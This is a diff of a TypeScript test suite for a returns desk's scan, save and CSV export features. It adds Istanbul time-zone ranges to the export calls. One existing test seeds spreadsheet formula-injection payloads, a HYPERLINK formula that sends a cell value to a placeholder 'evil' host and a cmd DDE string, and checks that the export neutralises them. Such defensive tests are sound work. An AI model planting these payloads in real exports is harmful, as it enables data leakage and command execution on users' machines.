@@ -23,6 +23,8 @@ async function setup(returns = 60) {
   await t.signIn();
   await new PackageSync(t.core.ctx.workspace(), t.core.ctx).run({ from: new Date(Date.now() - 60 * 86_400_000).toISOString() });
 }
+/** Every return up to tomorrow, times in the CSV local to Istanbul. */
+const everything = { from: '2000-01-01T00:00:00Z', to: new Date(Date.now() + 86_400_000).toISOString(), timeZone: 'Europe/Istanbul' };
 const rec = async (id: number) => (await t.admin(`packages/record?id=${id}`)) as Rec;
 
 describe('returns desk', () => {
@@ -66,7 +68,10 @@ describe('returns desk', () => {
     let insp = await t.call('returns.scanItem', { id: 900_007, code: barcode });
     expect(insp.lines.find((l) => l.barcode === barcode)).toMatchObject({ receivedQty: 1, condition: 'as_described' });
     // Another parcel's label is not an item: it is not added to the inspection.
-    expect(await t.core.call('returns.scanItem', { id: 900_007, code: 'KARGO-ETIKET-77' })).toMatchObject({ ok: false, error: { code: 'not_found' } });
+    expect(await t.core.call('returns.scanItem', { id: 900_007, code: 'KARGO-ETIKET-77' })).toMatchObject({
+      ok: false,
+      error: { code: 'not_found' },
+    });
     insp = await t.call('returns.scanItem', { id: 900_007, code: '8690000000999' });
     expect(insp.lines.at(-1)).toMatchObject({ extra: true, condition: 'wrong_item', mismatch: true, receivedQty: 1 });
     const first = insp.lines[0]!;
@@ -126,7 +131,7 @@ describe('returns desk', () => {
     const r = await rec(900_011);
     await t.call('returns.scanItem', { id: 900_011, code: r.lines[0]!.barcode });
     await t.call('returns.save', { id: 900_011, lines: [], recommendation: 'accept', note: 'Sorun yok, ürün sağlam' });
-    const e = await t.call('returns.export', { from: '2000-01-01', to: new Date(Date.now() + 86_400_000).toISOString().slice(0, 10) });
+    const e = await t.call('returns.export', everything);
     const [head, ...rows] = e.csv
       .replace(/^\uFEFF/, '')
       .trim()
@@ -135,7 +140,11 @@ describe('returns desk', () => {
     expect(rows.length).toBe(e.rows);
     expect(rows[0]).toContain('900011;');
     expect(rows[0]).toContain('Sorun yok, ürün sağlam');
-    const none = await t.call('returns.export', { from: '2001-01-01', to: '2001-01-02' });
+    const none = await t.call('returns.export', {
+      from: '2001-01-01T00:00:00+03:00',
+      to: '2001-01-02T00:00:00+03:00',
+      timeZone: 'Europe/Istanbul',
+    });
     expect(none.rows).toBe(0);
   });
 
@@ -148,7 +157,7 @@ describe('returns desk', () => {
       .run('=HYPERLINK("http://evil/?"&A1,"x")');
     await t.call('returns.scanItem', { id: 900_011, code: r.lines[0]!.barcode });
     await t.call('returns.save', { id: 900_011, lines: [], recommendation: 'accept', note: '@SUM(1+1)*cmd|/C calc' });
-    const e = await t.call('returns.export', { from: '2000-01-01', to: new Date(Date.now() + 86_400_000).toISOString().slice(0, 10) });
+    const e = await t.call('returns.export', everything);
     const row = e.csv.split('\r\n').find((l) => l.startsWith('900011;'))!;
     expect(row).toContain(`;"'=HYPERLINK(""http://evil/?""&A1,""x"")";`);
     expect(row).toContain(`;'@SUM(1+1)*cmd|/C calc;`);
